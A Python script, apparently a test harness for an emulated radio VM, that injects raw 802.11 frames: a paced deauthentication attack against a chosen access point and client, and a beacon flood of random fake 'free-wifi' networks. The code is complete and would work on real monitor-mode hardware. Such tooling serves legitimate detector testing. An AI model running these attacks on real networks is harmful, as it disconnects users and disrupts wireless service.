"""A raw-socket 802.11 injector for the radio VM: real frames on a monitor-mode hwsim radio.

Standard library only (it runs inside the emulated machine). Each frame is an 8-byte radiotap
header (no fields) and the 802.11 frame; mac80211 transmits it on the radio's channel.

  inject.py IFACE deauth BSSID CLIENT PER_S SECONDS
  inject.py IFACE flood PER_S SECONDS BEACONS_EACH SEED     (new BSSIDs a second)

The flood sends what flood tools send: fully random BSSIDs (group bit and all) alternating with
locally administered ones, random names, each BSSID beaconing a few times and never again
(`flood_bssids`, which the host regenerates from the seed). It prints how many frames it sent.
"""

from __future__ import annotations

import random
import socket
import struct
import sys
import time

RADIOTAP = b"\x00\x00\x08\x00\x00\x00\x00\x00"


def mac(s: str) -> bytes:
    return bytes.fromhex(s.replace(":", ""))


def deauth(bssid: str, client: str, reason: int = 7) -> bytes:
    return (b"\xc0\x00\x00\x00" + mac(client) + mac(bssid) + mac(bssid) + b"\x00\x00"
            + struct.pack("<H", reason))


def beacon(bssid: bytes, ssid: bytes, channel: int, seq: int) -> bytes:
    elems = (bytes([0, len(ssid)]) + ssid + b"\x01\x04\x82\x84\x8b\x96"
             + bytes([3, 1, channel]))
    return (b"\x80\x00\x00\x00" + b"\xff" * 6 + bssid + bssid + struct.pack("<H", seq << 4)
            + struct.pack("<QHH", 0, 100, 0x0401) + elems)


def paced(frames_per_s: float, seconds: float):  # type: ignore[no-untyped-def]
    """Yield frame numbers on schedule (catching up if the machine was slow)."""
    t0 = time.monotonic()
    i = 0
    while True:
        now = time.monotonic()
        if now - t0 >= seconds:
            return
        due = int((now - t0) * frames_per_s)
        while i <= due:
            yield i
            i += 1
        time.sleep(max(0.0, (i / frames_per_s) - (time.monotonic() - t0)))


def main() -> None:
    iface, mode = sys.argv[1], sys.argv[2]
    s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
    s.bind((iface, 0))
    sent = 0
    if mode == "deauth":
        bssid, client, per_s, seconds = sys.argv[3], sys.argv[4], float(sys.argv[5]), float(
            sys.argv[6])
        frame = RADIOTAP + deauth(bssid, client)
        for _ in paced(per_s, seconds):
            s.send(frame)
            sent += 1
    elif mode == "flood":
        per_s, seconds = float(sys.argv[3]), float(sys.argv[4])
        each, seed = int(sys.argv[5]), int(sys.argv[6])
        channel = int(sys.argv[7]) if len(sys.argv) > 7 else 1
        fakes = flood_bssids(seed)
        for n in paced(per_s, seconds):
            b, name = next(fakes)
            for k in range(each):
                s.send(RADIOTAP + beacon(b, name, channel, (n * each + k) & 0xFFF))
                sent += 1
            if n % 50 == 0:
                print(f"sent {sent} frames, {n + 1} BSSIDs", flush=True)
    print(f"sent {sent}", flush=True)


def flood_bssids(seed: int):  # type: ignore[no-untyped-def]
    """The flood's (BSSID, name) sequence: every other BSSID fully random (group bit
    included), the others locally administered unicast. The host regenerates it to check."""
    rng = random.Random(seed)
    n = 0
    while True:
        b = bytearray(rng.randbytes(6))
        if n % 2:
            b[0] = (b[0] | 0x02) & 0xFE
        yield bytes(b), f"free-wifi-{rng.randrange(10**6)}".encode()
        n += 1


if __name__ == "__main__":
    main()
